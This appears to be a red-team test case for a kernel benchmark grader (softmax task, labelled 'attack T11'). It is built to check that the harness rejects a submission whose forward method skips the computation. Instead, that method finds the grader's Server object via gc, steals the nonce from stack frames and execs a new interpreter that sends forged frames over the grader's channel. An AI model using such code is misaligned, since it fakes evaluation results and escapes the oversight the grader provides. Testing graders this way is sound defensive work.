# attack: T11 becomes a fresh image of the interpreter by exec, with clocks and channel kept, and serves from there
# task: softmax
# expect: runtime_error timeout incorrect rejected
import gc
import os
import sys

import torch
import torch.nn as nn

CODE = """
import os, socket, struct, time
link = socket.socket(fileno=int(os.environ['LINK']))
head = struct.Struct('<IIQqII')
block = bytearray(1024 * 4096)
import ctypes
place = ctypes.addressof((ctypes.c_char * len(block)).from_buffer(block))
nonce = int(os.environ['NONCE'])
while True:
    link.send((head.pack(0x4C4F4444, 3, nonce, 1000, 0, 1) + struct.pack('<Q', place)).ljust(4096, bytes(1)))
    data = link.recv(4096)
    if not data:
        break
    nonce = head.unpack_from(data)[2]
"""


class ModelNew(nn.Module):
    def forward(self, x):
        gc.unfreeze()
        server = next(o for o in gc.get_objects() if type(o).__name__ == "Server" and hasattr(o, "channel"))
        nonce, frame = 0, sys._getframe().f_back
        while frame is not None and not nonce:
            found = frame.f_locals.get("nonce")
            nonce = found if isinstance(found, int) else 0
            frame = frame.f_back
        fd = os.dup(server.channel.fileno())
        os.set_inheritable(fd, True)
        os.execve(sys.executable, [sys.executable, "-c", CODE], dict(os.environ, LINK=str(fd), NONCE=str(nonce)))
